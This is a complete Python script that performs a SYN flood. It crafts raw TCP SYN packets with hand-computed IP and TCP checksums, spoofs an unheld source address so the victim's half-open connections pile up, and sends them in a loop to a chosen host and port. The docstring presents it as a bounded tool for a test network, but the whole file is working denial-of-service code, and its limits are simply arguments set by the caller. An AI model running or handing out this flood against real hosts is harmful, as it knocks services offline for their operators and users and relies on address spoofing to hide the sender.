#!/usr/bin/env python3
"""A bounded SYN flood for the test network: COUNT TCP SYNs from the spoofed address SRC
(one the test network routes but nobody holds, so the real servers' SYN-ACKs are never
answered) to DST:PORT, each from its own source port, through a raw IPv4 socket.
Stops after COUNT packets or SECONDS, whichever comes first.

usage: syn_flood.py SRC DST PORT COUNT SECONDS
"""
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn(src: bytes, dst: bytes, sport: int, dport: int, seq: int) -> bytes:
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, socket.IPPROTO_TCP, 0, src, dst
    )
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def main() -> int:
    if len(sys.argv) != 6:
        print(__doc__, file=sys.stderr)
        return 2
    src, dst = socket.inet_aton(sys.argv[1]), socket.inet_aton(sys.argv[2])
    port, count, seconds = int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    end = time.monotonic() + seconds
    sent = 0
    for i in range(count):
        if i % 256 == 0 and time.monotonic() > end:
            break
        sport = 1024 + i % 64000
        try:
            s.sendto(syn(src, dst, sport, port, 0x1000_0000 + i), (sys.argv[2], 0))
            sent += 1
        except OSError:
            # A full socket buffer: give the link a moment.
            time.sleep(0.001)
    print(f"sent {sent} SYNs")
    return 0


if __name__ == "__main__":
    sys.exit(main())
